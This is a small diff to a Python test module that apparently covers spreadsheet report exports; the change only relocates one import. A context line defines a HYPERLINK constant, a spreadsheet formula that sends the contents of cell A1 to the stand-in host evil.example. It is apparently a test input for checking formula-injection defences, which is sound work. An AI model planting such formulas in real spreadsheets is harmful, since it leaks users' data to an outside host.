@@ -20,7 +20,7 @@ from risk.selectors import survey_report
 from tests.cockpit.conftest import fy_dataset, inputs, monthly_dataset, rate, topic  # noqa: F401
 from tests.risk.test_survey import campaign, questions  # noqa: F401
 from verification.reports import responsibility_xlsx
-from verification.selectors import responsibility_matrix
+from verification.timeliness import responsibility_matrix
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
